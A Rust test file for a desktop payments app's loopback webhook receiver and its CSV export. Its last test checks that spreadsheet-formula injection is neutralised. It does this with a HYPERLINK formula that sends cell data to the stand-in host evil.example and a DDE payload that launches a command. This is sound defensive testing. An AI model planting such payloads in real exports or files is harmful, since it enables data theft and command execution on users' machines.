//! The webhook receiver on loopback, and CSV export with exact amounts.

use std::str::FromStr;

use brlv_core::api::model::*;
use brlv_desk::app::export::{CsvRecord, to_csv_string};
use brlv_desk::webhook::{ListenError, WebhookEvent, WebhookListener};
use rust_decimal::Decimal;
use tokio::sync::mpsc;

fn fixture<T: serde::de::DeserializeOwned>(name: &str) -> T {
    let text = std::fs::read_to_string(format!(
        "{}/tests/fixtures/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap();
    serde_json::from_str(&text).unwrap()
}

#[tokio::test]
async fn an_event_post_is_answered_200_and_handed_over() {
    let (sender, mut received) = mpsc::unbounded_channel();
    let listener = WebhookListener::start("127.0.0.1:0".parse().unwrap(), sender)
        .await
        .unwrap();
    let order = fixture::<OrderEnvelope>("order-partial.json").order;
    let body = serde_json::json!({
        "id": "evt-1",
        "type": "order-refund-initiated",
        "created-at": "2026-11-21T10:00:00Z",
        "order": order,
        "extra-field": 7,
    });
    let response = reqwest::Client::new()
        .post(listener.url())
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let event = received.recv().await.unwrap();
    assert!(event.is_refund_initiated());
    assert_eq!(event.id.as_deref(), Some("evt-1"));
    assert_eq!(event.order.unwrap().id, order.id);
    assert_eq!(event.raw["extra-field"], 7);
    listener.stop();
}

#[tokio::test]
async fn garbage_is_refused_with_400_and_nothing_is_handed_over() {
    let (sender, mut received) = mpsc::unbounded_channel();
    let listener = WebhookListener::start("127.0.0.1:0".parse().unwrap(), sender)
        .await
        .unwrap();
    // JSON by its content type, but not an event: refused all the same.
    let response = reqwest::Client::new()
        .post(listener.url())
        .header("content-type", "application/json")
        .body("<html>")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    let response = reqwest::Client::new()
        .post(listener.url())
        .header("content-type", "application/json")
        .body("[1,2]")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    assert!(received.try_recv().is_err());
}

#[test]
fn an_event_with_a_malformed_order_is_still_kept() {
    let event = WebhookEvent::parse(
        br#"{"id":"e","type":"order-refund-initiated","order":{"id":"not-a-uuid"}}"#,
    )
    .unwrap();
    assert!(event.is_refund_initiated());
    assert!(event.order.is_none());
    assert_eq!(event.raw["order"]["id"], "not-a-uuid");
}

#[tokio::test]
async fn only_loopback_addresses_are_bound() {
    let (sender, _received) = mpsc::unbounded_channel();
    let error = WebhookListener::start("0.0.0.0:0".parse().unwrap(), sender)
        .await
        .unwrap_err();
    assert!(matches!(error, ListenError::NotLoopback(_)));
}

#[test]
fn csv_keeps_every_digit_of_an_18_place_amount() {
    let mut transfer = fixture::<TransferEnvelope>("transfer-full.json").transfer;
    transfer.amount = Some(
        Decimal::from_str("1234567.123456789012345678")
            .unwrap()
            .into(),
    );
    let csv = to_csv_string(&[transfer]).unwrap();
    let mut lines = csv.lines();
    assert_eq!(lines.next().unwrap(), Transfer::headers().join(","));
    let row = lines.next().unwrap();
    assert!(row.contains(",1234567.123456789012345678,"), "{row}");
    assert!(row.contains("eth-base/brlv"));
}

#[test]
fn csv_of_each_list_has_its_header_and_one_row_per_record() {
    let orders = fixture::<OrdersEnvelope>("orders-unknown-values.json").orders;
    let csv = to_csv_string(&orders).unwrap();
    assert_eq!(csv.lines().count(), 3);
    assert!(
        csv.contains("awaiting-settlement"),
        "unknown states are exported as they came"
    );

    let deposits = fixture::<DepositsEnvelope>("deposits.json").deposits;
    let csv = to_csv_string(&deposits).unwrap();
    assert!(csv.lines().nth(1).unwrap().contains(",2500.00,"), "{csv}");
    assert!(csv.contains("52998224725"));

    let wallets = fixture::<WalletsEnvelope>("wallets.json").wallets;
    let csv = to_csv_string(&wallets).unwrap();
    // Metadata is JSON inside one quoted cell.
    assert!(
        csv.contains(r#""{""limit"":3,""team"":""ops""}""#)
            || csv.contains(r#""{""team"":""ops"",""limit"":3}""#),
        "{csv}"
    );

    let claim = fixture::<ClaimEnvelope>("claim-full.json").claim;
    let csv = to_csv_string(&[claim]).unwrap();
    assert!(csv.contains(",1000.00,150.00,5.00,845.00,"), "{csv}");

    let withdrawal = fixture::<WithdrawalEnvelope>("withdrawal-full.json").withdrawal;
    let csv = to_csv_string(&[withdrawal]).unwrap();
    assert!(csv.contains(",pix,fiat/brl,320.50,"), "{csv}");
}

/// The cells of a CSV file, read back as a spreadsheet's importer would.
fn csv_cells(path: &std::path::Path) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_path(path).unwrap();
    reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// A wallet named with a formula and a payer's field starting with `@`, as
/// a service (or whoever named them) may send them: the saved file holds
/// them as text (a leading `'`), and the amounts stay plain numbers.
#[test]
fn exported_text_that_would_run_as_a_formula_is_saved_as_text() {
    use brlv_desk::app::export::{ExportRecords, ExportRequest, write_export};
    let dir = tempfile::tempdir().unwrap();
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;

    let mut wallet = fixture::<WalletsEnvelope>("wallets.json").wallets.remove(0);
    wallet.name = Some(formula.to_owned());
    let path = dir.path().join("wallets.csv");
    write_export(&ExportRequest {
        path: path.clone(),
        records: ExportRecords::Wallets(vec![wallet]),
    })
    .unwrap();
    let rows = csv_cells(&path);
    assert_eq!(rows[0][0], format!("'{formula}"), "{rows:?}");

    let mut deposits: DepositsEnvelope = serde_json::from_value(serde_json::json!({
        "deposits": [{
            "id": "1f6c9b7e-4a0d-4c7f-9e8a-3b2d1c0e9f87",
            "type": "pix",
            "amount": "-12.50",
            "status": "credited",
            "coordinates": {
                "source-tax-id": "@SUM(1+1)*cmd|' /C calc'!A0",
                "source-type": "+checking",
                "target": "-1+1",
            },
        }],
    }))
    .unwrap();
    let path = dir.path().join("deposits.csv");
    write_export(&ExportRequest {
        path: path.clone(),
        records: ExportRecords::Deposits(std::mem::take(&mut deposits.deposits)),
    })
    .unwrap();
    let rows = csv_cells(&path);
    let row = &rows[0];
    assert_eq!(row[3], "-12.50", "an amount stays a number: {row:?}");
    assert_eq!(row[6], "'@SUM(1+1)*cmd|' /C calc'!A0", "{row:?}");
    assert_eq!(row[8], "'+checking", "{row:?}");
    assert_eq!(row[11], "'-1+1", "{row:?}");
    for cell in row {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r'])
                && (!cell.starts_with('-') || cell.parse::<Decimal>().is_ok()),
            "{cell:?} would run in a spreadsheet"
        );
    }
}
